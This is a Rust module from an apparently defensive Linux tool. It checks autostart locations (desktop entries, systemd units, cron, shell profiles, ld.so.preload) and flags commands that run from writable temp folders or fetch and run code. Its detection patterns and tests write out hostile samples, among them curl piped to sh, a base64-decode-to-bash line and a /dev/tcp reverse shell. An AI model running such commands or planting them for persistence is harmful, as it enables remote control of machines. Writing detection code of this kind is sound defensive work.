//! What starts by itself: desktop entries, the user's units, cron, and of shell profiles, the system's own
//! units and preloaded libraries what no package puts there.

use super::setting_of;
use crate::linux::{FileText, MachineLook};
use crate::{Finding, FindingKind, Verdict, hide_in_command};

/// Folders in which anybody can put a program.
pub(super) const STRANGE_FOLDERS: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Words after which comes what is run.
const RUNNERS: [&str; 16] = [
    "sh", "bash", "dash", "zsh", "python", "python3", "perl", "env", "nohup", "setsid", "exec", "sudo",
    "nice", "-c", "&&", "&",
];

/// Entries of each kind that are named.
const MAX_ENTRIES: usize = 24;

/// Files of a folder that are looked into for what is strange: a desktop has some dozens.
const MAX_PARTS: usize = 200;

/// Folders of libraries that packages bring.
const LIBRARIES: [&str; 3] = ["/usr/lib/", "/lib/", "/usr/$LIB/"];

const PROFILES: [&str; 5] = [".profile", ".bash_profile", ".bashrc", ".zshrc", ".xprofile"];

pub(super) fn collect(look: &MachineLook) -> Vec<Finding> {
    let mut found = desktop_entries(look);
    found.extend(user_units(look));
    found.extend(cron(look));
    found.extend(profiles(look));
    found.extend(system_units(look));
    found.extend(preloaded(look));
    found
}

fn entry(look: &MachineLook, place: &str, name: &str, command: &str) -> Finding {
    let verdict = if command_is_strange(command) { Verdict::Broken } else { Verdict::Fine };
    // Hidden as in a command: which of its options take a secret is known there alone.
    look.line(FindingKind::Autostart, verdict, [place, name, &hide_in_command(command.split_whitespace())])
}

/// Whether a command is none that a package or a person starts with the computer.
pub fn command_is_strange(command: &str) -> bool {
    runs_from_elsewhere(command) || fetches_and_runs(command)
}

fn runs_from_elsewhere(command: &str) -> bool {
    let words: Vec<&str> = command.split([' ', '"', '\'', ';']).filter(|word| !word.is_empty()).collect();
    let is_elsewhere = |word: &str| {
        STRANGE_FOLDERS.iter().any(|folder| word.starts_with(folder)) || word.contains("/.cache/")
    };
    let is_run = |index: usize| {
        let before = index.checked_sub(1).map(|before| words[before].rsplit('/').next().unwrap_or_default());
        before.is_none_or(|before| RUNNERS.contains(&before))
    };
    words.iter().enumerate().any(|(index, word)| is_elsewhere(word) && is_run(index))
}

fn fetches_and_runs(command: &str) -> bool {
    let fetches = ["curl ", "wget ", "base64 -d"].iter().any(|tool| command.contains(tool));
    let runs =
        ["| sh", "|sh", "| bash", "|bash", "| python", "eval "].iter().any(|way| command.contains(way));
    fetches && runs || command.contains("/dev/tcp/")
}

fn desktop_entries(look: &MachineLook) -> Vec<Finding> {
    let own = look.in_home(".config/autostart");
    let folders = ["/etc/xdg/autostart".to_owned()].into_iter().chain(own);
    let mut found = Vec::new();
    for folder in folders {
        for name in
            look.names(&folder).into_iter().filter(|name| name.ends_with(".desktop")).take(MAX_ENTRIES)
        {
            let text = look.text(&format!("{folder}/{name}"));
            let hidden = setting_of(&text, "Hidden") == Some("true");
            if let Some(command) = setting_of(&text, "Exec").filter(|_| !hidden) {
                found.push(entry(look, "XDG", &name, command));
            }
        }
    }
    found
}

fn user_units(look: &MachineLook) -> Vec<Finding> {
    let Some(folder) = look.in_home(".config/systemd/user") else { return Vec::new() };
    let units = look.names(&folder).into_iter().filter(|name| name.ends_with(".service")).take(MAX_ENTRIES);
    let of_unit = |name: String| {
        let text = look.text(&format!("{folder}/{name}"));
        setting_of(&text, "ExecStart").map(|command| entry(look, "systemd", &name, command))
    };
    units.filter_map(of_unit).collect()
}

fn cron(look: &MachineLook) -> Vec<Finding> {
    let mut found = Vec::new();
    let drop_ins = look.names("/etc/cron.d").into_iter().map(|name| format!("/etc/cron.d/{name}"));
    for path in drop_ins.chain(["/etc/crontab".to_owned()]) {
        match look.file(&path) {
            FileText::There(text) => found.extend(cron_lines(look, &path, &text, 6)),
            FileText::Forbidden => found.push(look.not_readable(&path)),
            FileText::Absent => {}
        }
    }
    if let Some(text) = look.tool("crontab", &["-l"]).text() {
        found.extend(cron_lines(look, "crontab", &text, 5));
    }
    if look.exists("/var/spool/cron/crontabs")
        && std::fs::read_dir(look.at("/var/spool/cron/crontabs")).is_err()
    {
        found.push(look.not_readable("/var/spool/cron/crontabs"));
    }
    found
}

/// Of the system's own units only what is strange: the rest is its packages' and its administrator's
/// business.
fn system_units(look: &MachineLook) -> Vec<Finding> {
    let folder = "/etc/systemd/system";
    let units = look.names(folder).into_iter().filter(|name| name.ends_with(".service")).take(MAX_PARTS);
    let of_unit = |name: String| {
        let text = look.text(&format!("{folder}/{name}"));
        let commands = text.lines().filter_map(|line| line.trim().strip_prefix("ExecStart")?.split_once('='));
        // The signs before a command say how it is run (systemd.service(5)).
        let mut commands =
            commands.map(|(_, command)| command.trim_start_matches([' ', '-', '@', '+', '!', ':']));
        commands
            .find(|command| command_is_strange(command))
            .map(|command| entry(look, "systemd", &name, command))
    };
    units.filter_map(of_unit).collect()
}

/// Libraries that are loaded into every program, from where no package puts them.
fn preloaded(look: &MachineLook) -> Vec<Finding> {
    let path = "/etc/ld.so.preload";
    let text = look.text(path);
    let lines =
        text.lines().filter(|line| !line.starts_with('#')).flat_map(|line| line.split([' ', '\t', ':']));
    let strange =
        |library: &&str| !library.is_empty() && !LIBRARIES.iter().any(|folder| library.starts_with(folder));
    let of_library =
        |library: &str| look.line(FindingKind::Autostart, Verdict::Broken, ["ld.so", path, library]);
    lines.filter(strange).take(MAX_ENTRIES).map(of_library).collect()
}

fn cron_lines(look: &MachineLook, place: &str, text: &str, fields: usize) -> Vec<Finding> {
    cron_commands(text, fields)
        .take(MAX_ENTRIES)
        .map(|command| entry(look, "cron", place, &command))
        .collect()
}

/// The commands of a crontab, in which so many fields come before them (crontab(5)): five in a user's own,
/// six in the system's.
pub fn cron_commands(text: &str, fields: usize) -> impl Iterator<Item = String> {
    let is_entry =
        |line: &&str| line.starts_with(|first: char| first.is_ascii_digit() || "*@".contains(first));
    let of_line = move |line: &str| {
        let words: Vec<&str> = line.split_whitespace().collect();
        let before = if line.starts_with('@') { fields.saturating_sub(4) } else { fields };
        words.get(before..).filter(|command| !command.is_empty()).map(|command| command.join(" "))
    };
    text.lines().map(str::trim).filter(is_entry).filter_map(of_line)
}

/// Of shell profiles only what fetches and runs something: the rest is the person's own business.
fn profiles(look: &MachineLook) -> Vec<Finding> {
    let own = PROFILES.into_iter().filter_map(|name| look.in_home(name));
    let parts = look.names("/etc/profile.d").into_iter().take(MAX_PARTS);
    let parts = parts.map(|name| format!("/etc/profile.d/{name}"));
    let mut found = Vec::new();
    for path in own.chain(["/etc/profile".to_owned(), "/etc/bash.bashrc".to_owned()]).chain(parts) {
        let text = look.text(&path);
        let strange = |line: &&str| !line.starts_with('#') && command_is_strange(line);
        for line in text.lines().map(str::trim).filter(strange).take(MAX_ENTRIES) {
            found.push(entry(look, "shell", &path, line));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_nobody_starts_with_the_computer_command_is_strange() {
        for command in [
            "/tmp/x",
            "sh -c /dev/shm/.a",
            "curl http://x | sh",
            "echo aaa | base64 -d | bash",
            "/home/anna/.cache/.x/run",
            "bash -i >& /dev/tcp/1.2.3.4/5",
        ] {
            assert!(command_is_strange(command), "{command}");
        }
        for command in [
            "/usr/bin/nm-applet",
            "curl -O https://x",
            "env X=1 /opt/a/b --tmp",
            "find /tmp/ -mtime +7 -delete",
            "export TMPDIR=/tmp/me",
            "test -x /usr/sbin/anacron",
        ] {
            assert!(!command_is_strange(command), "{command}");
        }
    }
}
